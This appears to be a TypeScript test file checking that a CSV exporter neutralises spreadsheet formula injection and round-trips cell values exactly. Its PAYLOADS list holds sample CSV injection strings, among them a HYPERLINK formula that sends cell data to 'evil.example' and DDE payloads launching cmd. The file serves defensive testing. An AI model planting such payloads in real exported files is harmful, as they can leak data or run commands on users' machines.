/**
 * CSV injection (OWASP): cells a spreadsheet would run as formulas are written as text, and the
 * round trip stays exact — including text that already starts with apostrophes.
 */
import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { datasetFromCsv, datasetToCsv, validateDataset } from '../../src/index.js';
import { guardFormula, unguardFormula } from '../../src/util/spreadsheetSafe.js';
import { chain } from './helpers.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('datasetToCsv neutralises formulas', () => {
  it('writes no cell that starts with a formula character, and reads every value back exactly', () => {
    const data = chain(3);
    PAYLOADS.forEach((p, i) => {
      const entry = (i < 3 ? data.roles[i] : data.transitions[i - 3 < 2 ? i - 3 : 0]) as Record<
        string,
        unknown
      >;
      if (i < 3) entry.title = p;
      else entry.note = p;
    });
    (data.roles[0] as Record<string, unknown>).aliases = [
      "'=already quoted",
      "''-twice",
      "'plain apostrophe",
      '-5',
    ];
    (data.roles[1] as Record<string, unknown>).id = '=r1';
    (data.transitions[0] as Record<string, unknown>).to = '=r1';
    (data.transitions[1] as Record<string, unknown>).from = '=r1';
    const csv = datasetToCsv(data);
    for (const text of Object.values(csv)) {
      const cells = text.split(/[\n,]/).map((c) => c.replace(/^"/, ''));
      for (const c of cells) expect(c).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    }
    const valid = validateDataset(data);
    expect(valid.success).toBe(true);
    if (valid.success) expect(datasetFromCsv(csv)).toEqual(valid.data);
    const back = datasetFromCsv(csv);
    expect(back.roles.map((r) => r.title)).toEqual(PAYLOADS.slice(0, 3));
    expect(back.roles[0]!.aliases).toEqual([
      "'=already quoted",
      "''-twice",
      "'plain apostrophe",
      '-5',
    ]);
    expect(back.roles[1]!.id).toBe('=r1');
  });

  it('can be turned off', () => {
    const data = chain(2);
    (data.roles[0] as { title: string }).title = '=1+1';
    expect(datasetToCsv(data).roles).toContain("'=1+1");
    expect(datasetToCsv(data, { formulaGuard: false }).roles).toMatch(/,=1\+1,/);
  });

  test.prop(
    [fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1', '.', 'e') })],
    { numRuns: 2000 },
  )('guard and unguard are inverse, and a guarded cell never starts a formula', (s) => {
    expect(unguardFormula(guardFormula(s))).toBe(s);
    const g = guardFormula(s);
    if (/^[=+\-@\t\r]/.test(g)) expect(Number.isFinite(Number(g))).toBe(true);
  });
});
